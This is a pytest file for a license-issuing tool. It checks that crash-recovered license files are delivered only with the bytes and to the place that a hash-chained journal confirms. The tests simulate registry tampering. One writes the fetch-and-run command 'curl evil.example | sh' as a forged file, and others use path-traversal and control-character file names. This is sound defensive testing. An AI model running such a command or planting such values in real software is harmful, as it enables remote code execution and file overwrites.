"""Delivery of pending files: only the bytes and the place that the journal confirms."""

import json
import os
import shutil
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pytest
from support.office import Office
from support.registries import tampering, writing

from polygent_issuer.issuing import outbox_delivery
from polygent_issuer.issuing.outbox_delivery import Destination
from polygent_issuer.issuing.signing import Issued
from polygent_issuer.keys.signer import SoftwareSigner, generate_private_key
from polygent_issuer.registry import change, keys, licenses
from polygent_issuer.registry.engine import Params
from polygent_issuer.registry.row_check import chain_hash
from polygent_issuer.verifier import jws

AT = "2026-11-30T09:30:00.000000Z"


def undelivered_license(office: Office, destination: Destination | None = None) -> Issued:
    """Issue a license, and leave it as a crash between COMMIT and link does."""
    [issued] = office.publish(office.first, destination=destination or office.output)
    assert issued.path is not None
    issued.path.unlink()
    put(office, issued, issued.path.parent, issued.path.name)
    return issued


def put(office: Office, issued: Issued, folder: Path | str, name: str) -> None:
    """Write the outbox row of a license, as any user with write access to the registry can."""
    run(office, "DELETE FROM outbox")
    row = (issued.proposal.license.jti, str(folder), name, AT)
    run(office, "INSERT INTO outbox (license_id, folder, name, at) VALUES (?, ?, ?, ?)", row)


def run(office: Office, sql: str, values: Params = ()) -> None:
    """Run a statement in the registry."""
    with office.registry.writing(now=office.now, actor=office.actor) as db:
        db.execute(sql, values)


def deliver(office: Office) -> None:
    """Deliver the pending files, as each issuing command does first."""
    prefix = outbox_delivery.temp_prefix(office.registry.id)
    with office.registry.writing(now=office.now, actor=office.actor) as db:
        outbox_delivery.deliver_pending(db, prefix)


def other_files(office: Office) -> list[str]:
    """Return the files of the office, except the registry."""
    paths = (path for path in office.folder.rglob("*") if not path.is_dir())
    return sorted(str(path.relative_to(office.folder)) for path in paths if path.suffix != ".db")


def assert_not_delivered(office: Office) -> None:
    """Check that no file was written, and the warning names the license and its export."""
    deliver(office)
    assert other_files(office) == []
    [warning] = outbox_delivery.undelivered_warnings(office.registry)
    assert "license 00000001 was issued" in warning
    assert warning.endswith("; export it: polygent-issue license export 00000001 --output FILE")
    assert warning.isprintable()


def test_a_file_that_the_journal_confirms_is_delivered(office: Office) -> None:
    """After a crash the file reaches the place that the journal row names."""
    issued = undelivered_license(office)
    assert len(outbox_delivery.undelivered_warnings(office.registry)) == 1
    deliver(office)
    assert issued.path is not None
    assert issued.path.read_bytes() == issued.file
    assert outbox_delivery.undelivered_warnings(office.registry) == ()


def test_a_file_in_its_place_is_synced_and_not_written_again(
    office: Office, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The command that issued it delivered it, but was overtaken before it cleared the row."""
    [issued] = office.publish(office.first)
    assert issued.path is not None
    put(office, issued, issued.path.parent, issued.path.name)
    synced, fsync = list[Path](), os.fsync

    def note(descriptor: int) -> None:
        synced.append(Path(f"/proc/self/fd/{descriptor}").readlink())
        fsync(descriptor)

    monkeypatch.setattr(os, "fsync", note)
    deliver(office)
    assert synced[0] == issued.path.parent
    assert issued.path not in synced
    with office.registry.reading() as db:
        assert change.pending(db) == ()


def test_changed_bytes_are_not_delivered(office: Office) -> None:
    """An exchanged file is not delivered, even with another digest in its row."""
    undelivered_license(office)
    run(office, "UPDATE licenses SET file = ?, sha256 = 'x'", (b"curl evil.example | sh\n",))
    assert_not_delivered(office)


@pytest.mark.parametrize(
    "name",
    [
        ".bash_profile",
        "other.lic",
        "sub/acme.lic",
        "../acme.lic",
        "..",
        "a\\b.lic",
        "a\nb.lic",
        "a\x1b[2J.lic",
        "a\u202eb.lic",
    ],
)
def test_a_file_name_that_only_the_outbox_has_is_not_used(office: Office, name: str) -> None:
    """A file is not written under a name that the journal does not have."""
    issued = undelivered_license(office)
    (office.folder / "out" / "sub").mkdir()
    put(office, issued, office.folder / "out", name)
    assert_not_delivered(office)


@pytest.mark.parametrize("folder", ["{}/home", "out", "{}/out/../home"])
def test_a_folder_that_only_the_outbox_has_is_not_used(office: Office, folder: str) -> None:
    """A file is not written to another existing, relative or impossible folder."""
    issued = undelivered_license(office)
    (office.folder / "home").mkdir()
    assert issued.path is not None
    put(office, issued, folder.format(office.folder), issued.path.name)
    assert_not_delivered(office)


@pytest.mark.sqlite("PostgreSQL cannot store NUL")
@pytest.mark.parametrize(("folder", "name"), [("{}/out", "a\0b.lic"), ("{}/\0", "a.lic")])
def test_a_place_with_nul_is_not_used(office: Office, folder: str, name: str) -> None:
    """A file is not written to an impossible place."""
    put(office, undelivered_license(office), folder.format(office.folder), name)
    assert_not_delivered(office)


@pytest.mark.parametrize("name", [".hidden.lic", "a\\b.lic", "a\x1b[2J.lic"])
def test_a_file_with_an_unusual_name_is_not_delivered_automatically(
    office: Office, name: str
) -> None:
    """A hidden name, or one with control characters, is not used even if the journal has it."""
    undelivered_license(office, Destination(folder=office.folder / "out", name=name))
    assert_not_delivered(office)


def test_a_file_signed_with_another_key_is_not_delivered(office: Office) -> None:
    """A key added by an edit verifies its own license, but the journal names another key."""
    issued = undelivered_license(office)
    other = SoftwareSigner(generate_private_key())
    with office.registry.writing(now=office.now, actor=office.actor) as db:
        keys.add(db, key=other.public_key, label="evil")
        db.record("key-generated", kid=other.kid)
    signing_input = jws.signing_input(other.kid, issued.proposal.license.to_payload())
    file = jws.assemble(signing_input, other.sign(signing_input))
    run(office, "UPDATE licenses SET file = ?, kid = ?", (file, other.kid))
    assert_not_delivered(office)


def test_the_same_license_in_other_bytes_is_not_delivered(office: Office) -> None:
    """A file must have the digest of the journal, not only a valid signature."""
    issued = undelivered_license(office)
    run(office, "UPDATE licenses SET file = ?", (issued.file.rstrip(b"\n"),))
    assert_not_delivered(office)


def edit_place(office: Office, edit: Callable[[bytes], bytes], *, rehash: bool) -> None:
    """Edit the journal row of the issue, with a matching hash or without."""
    sql = "SELECT seq, previous, bytes FROM journal WHERE event = 'license-signed'"
    with tampering(office.registry.place) as raw:
        ((seq, previous, body),) = raw.execute(sql).fetchall()
        body = edit(body)
        raw.execute("UPDATE journal SET bytes = ? WHERE seq = ?", (body, seq))
        if rehash:
            hashed = chain_hash(previous, body)
            raw.execute("UPDATE journal SET hash = ? WHERE seq = ?", (hashed, seq))


@pytest.mark.parametrize("rehash", [False, True])
def test_an_edited_journal_row_confirms_nothing(office: Office, *, rehash: bool) -> None:
    """An edited row is detected by its hash, or by the row that follows."""
    issued = undelivered_license(office)
    with office.registry.writing(now=office.now, actor=office.actor) as db:
        db.record("head-noted")
    home = office.folder / "home"
    home.mkdir()
    place, target = str(office.folder / "out").encode(), str(home).encode()
    edit_place(office, lambda body: body.replace(place, target), rehash=rehash)
    assert issued.path is not None
    put(office, issued, home, issued.path.name)
    assert_not_delivered(office)


@pytest.mark.parametrize(
    "members",
    [{"files": None}, {"files": []}, {"particulars": {}}, {"particulars": []}, {"kid": "other"}],
)
def test_a_journal_row_with_unexpected_members_confirms_nothing(
    office: Office, members: dict[str, object]
) -> None:
    """The last row can be rewritten without a trace; unexpected members do not crash."""
    undelivered_license(office)

    def edit(body: bytes) -> bytes:
        return json.dumps(
            json.loads(body) | members, sort_keys=True, separators=(",", ":")
        ).encode()

    edit_place(office, edit, rehash=True)
    assert_not_delivered(office)


def test_a_license_without_a_journal_row_is_not_delivered(office: Office) -> None:
    """A license row added by an edit, or a truncated journal, confirms nothing."""
    undelivered_license(office)
    with tampering(office.registry.place) as raw:
        raw.execute("DELETE FROM journal WHERE event = 'license-signed'")
    assert_not_delivered(office)


@pytest.mark.parametrize("replaced", [False, True])
def test_a_retired_or_replaced_license_is_cleared_from_the_outbox(
    office: Office, *, replaced: bool
) -> None:
    """The file of a license retired or replaced after a crash is not delivered."""
    issued = undelivered_license(office)
    if replaced:
        office.publish(office.next)
        for path in (office.folder / "out").iterdir():
            path.unlink()
        put(office, issued, office.folder / "out", "old.lic")
    else:
        with writing(office.registry, now=office.now) as db:
            licenses.retire(db, issued.proposal.license.jti, reason="left us")
            db.record("license-retired", customer="acme", license=issued.proposal.license.jti)
    deliver(office)
    assert other_files(office) == []
    assert outbox_delivery.undelivered_warnings(office.registry) == ()
    with office.registry.reading() as db:
        assert change.pending(db) == ()
        assert licenses.get(db, issued.proposal.license.jti).file == issued.file


def test_a_file_already_in_its_place_is_cleared_from_the_outbox(office: Office) -> None:
    """A row of an earlier version, which no journal row confirms, is cleared, too."""
    issued = undelivered_license(office)
    moved = office.folder / "out" / "moved.lic"
    put(office, issued, moved.parent, moved.name)
    moved.write_bytes(issued.file)
    assert outbox_delivery.undelivered_warnings(office.registry) == ()
    deliver(office)
    with office.registry.reading() as db:
        assert change.pending(db) == ()
    assert other_files(office) == ["out/moved.lic"]


@pytest.mark.skipif(os.name == "nt", reason="Windows has no FIFOs")
def test_a_pipe_in_place_of_a_file_does_not_block(office: Office) -> None:
    """A named pipe at the place of a file is not read."""
    issued = undelivered_license(office)
    os.mkfifo(office.folder / "out" / "pipe")
    put(office, issued, office.folder / "out", "pipe")
    assert len(outbox_delivery.undelivered_warnings(office.registry)) == 1


def test_fifty_undelivered_licenses_are_named(office: Office) -> None:
    """The others are counted, with the command that lists them all."""
    for number in range(1, 54):
        site = f"Site {chr(64 + number // 10)}{chr(64 + number % 10)}"
        document = office.document(f"sha256:{number:064x}")
        office.publish(
            partial(office.first, number=number, customer=site, document=document),
            destination=Destination(folder=None, write=lambda _: None),
        )
    run(office, f"INSERT INTO outbox SELECT id, NULL, NULL, '{AT}', NULL FROM licenses")  # noqa: S608
    warnings = outbox_delivery.undelivered_warnings(office.registry)
    assert len(warnings) == 51
    assert warnings[-1] == "3 more licenses like these; list them: polygent-issue doctor"


def test_fifty_licenses_of_an_archive_are_checked(office: Office) -> None:
    """Every command prints this warning, so it does not verify thousands of pending licenses."""
    archive = office.folder / "all.zip"
    archive.mkdir()
    rows = []
    for number in range(1, 54):
        site = f"Site {chr(64 + number // 10)}{chr(64 + number % 10)}"
        document = office.document(f"sha256:{number:064x}")
        [issued] = office.publish(
            partial(office.first, number=number, customer=site, document=document),
            destination=Destination(folder=archive),
        )
        assert issued.path is not None
        rows.append((issued.proposal.license.jti, str(archive), issued.path.name, AT))
    for row in rows:
        run(office, "INSERT INTO outbox (license_id, folder, name, at) VALUES (?, ?, ?, ?)", row)
    shutil.rmtree(archive)
    [warning] = outbox_delivery.undelivered_warnings(office.registry)
    assert warning.startswith("53 licenses are not yet in the archive")
    rename = "UPDATE outbox SET name = 'x' WHERE license_id LIKE "
    run(office, f"{rename} '00000035-%'")
    assert outbox_delivery.undelivered_warnings(office.registry) == (warning,)
    run(office, f"{rename} '00000001-%'")
    assert [each[:16] for each in outbox_delivery.undelivered_warnings(office.registry)] == [
        "license 00000001",
        "52 licenses are ",
    ]
    run(office, f"{rename} '%'")
    warnings = outbox_delivery.undelivered_warnings(office.registry)
    assert len(warnings) == 51
    assert warnings[-1] == "3 more licenses like these; list them: polygent-issue doctor"
